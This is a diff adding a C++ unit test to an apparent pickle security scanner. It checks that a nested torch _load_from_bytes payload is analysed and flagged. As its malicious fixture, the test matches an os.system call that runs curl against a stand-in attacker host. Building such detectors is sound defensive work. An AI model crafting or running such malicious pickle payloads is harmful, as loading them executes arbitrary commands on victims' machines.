@@ -275,3 +275,42 @@ TEST(PickleNestedTest, ThePayloadLoadedManyTimesIsAnalysedOnce) {
 
 }  // namespace
 }  // namespace mg::pickle::test
+
+namespace mg::pickle::test {
+namespace {
+
+// pickle.dumps(tensor) stores torch.storage._load_from_bytes(<torch.save bytes>): the call is
+// judged by what the bytes hold, and is itself reported only when they cannot be computed.
+TEST(PickleNestedTest, TorchLoadFromBytesIsJudgedByItsPayload) {
+  PickleBuilder evil;
+  evil.Proto(2).Global("torch.storage", "_load_from_bytes").BinBytes(InnerPickle()).Tuple1();
+  const std::size_t at = evil.size();
+  evil.Reduce().Stop();
+  const Scan evil_scan = Analyze(evil.bytes());
+  const Finding* inner = CallFinding(evil_scan, "os.system('curl attacker.invalid')");
+  ASSERT_NE(inner, nullptr);
+  char member[64];
+  std::snprintf(member, sizeof member, "torch.storage._load_from_bytes@0x%zx", at);
+  EXPECT_EQ(inner->location.member, std::vector<std::string>{member});
+
+  PickleBuilder clean;
+  clean.Proto(2).Global("torch.storage", "_load_from_bytes").BinBytes("\x80\x02K\x01.").Tuple1();
+  clean.Reduce().Stop();
+  const Scan clean_scan = Analyze(clean.bytes());
+  for (const auto& finding : clean_scan.target.findings) {
+    EXPECT_LT(finding.severity, Severity::kMedium) << finding.rule << ": " << finding.message;
+  }
+  EXPECT_NE(clean_scan.First("PICKLE-NESTED-PICKLE"), nullptr);
+
+  // Bytes the VM cannot compute: the loader call is reported as the denylist says.
+  PickleBuilder opaque;
+  opaque.Proto(2).Global("torch.storage", "_load_from_bytes");
+  opaque.Global("mypkg", "blob").Op(')').Reduce().Tuple1().Reduce().Stop();
+  const Scan opaque_scan = Analyze(opaque.bytes());
+  ASSERT_NE(opaque_scan.First("PICKLE-DANGEROUS-CALL"), nullptr);
+  EXPECT_NE(opaque_scan.First("PICKLE-NESTED-UNDECODED"), nullptr);
+  EXPECT_FALSE(opaque_scan.complete());
+}
+
+}  // namespace
+}  // namespace mg::pickle::test
